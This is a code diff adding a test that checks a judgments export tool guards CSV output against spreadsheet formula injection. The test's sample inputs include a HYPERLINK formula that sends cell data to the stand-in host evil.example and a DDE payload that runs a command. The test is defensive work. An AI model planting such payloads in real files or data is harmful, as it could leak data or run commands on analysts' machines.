@@ -72,6 +72,26 @@ def test_csv_has_the_same_columns_and_rows(cli, demo, tmp_path):
     assert any("\n- first point" in row["answer_left"] for row in rows)
 
 
+def test_csv_cells_never_become_spreadsheet_formulas(cli, demo, tmp_path):
+    """A reviewer's rationale =HYPERLINK(...) must not become a live link in the analyst's sheet."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1,2)", "\t=1+1", "\uff1d1+1"]
+    ids = [row["judgment_id"] for row in read_jsonl(cli("export", "--study", STUDY, "--format", "jsonl")[1])]
+    with session_scope(demo, write=True) as session:
+        for judgment_id, text in zip(ids, hostile, strict=False):
+            session.get(Judgment, judgment_id).rationale = text
+    path = tmp_path / "judgments.csv"
+    assert cli("export", "--study", STUDY, "--format", "csv", "-o", path)[0] == 0
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    assert [row["rationale"] for row in rows[:len(hostile)]] == ["'" + text for text in hostile]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    # JSONL keeps the exact text: it is data, not a spreadsheet.
+    code, out, _ = cli("export", "--study", STUDY, "--format", "jsonl")
+    assert [r["rationale"] for r in read_jsonl(out)][:len(hostile)] == hostile
+
+
 def test_parquet_columns_and_types(cli, demo, tmp_path):
     path = tmp_path / "judgments.parquet"
     code, _, err = cli("export", "--study", STUDY, "--format", "parquet", "-o", path)
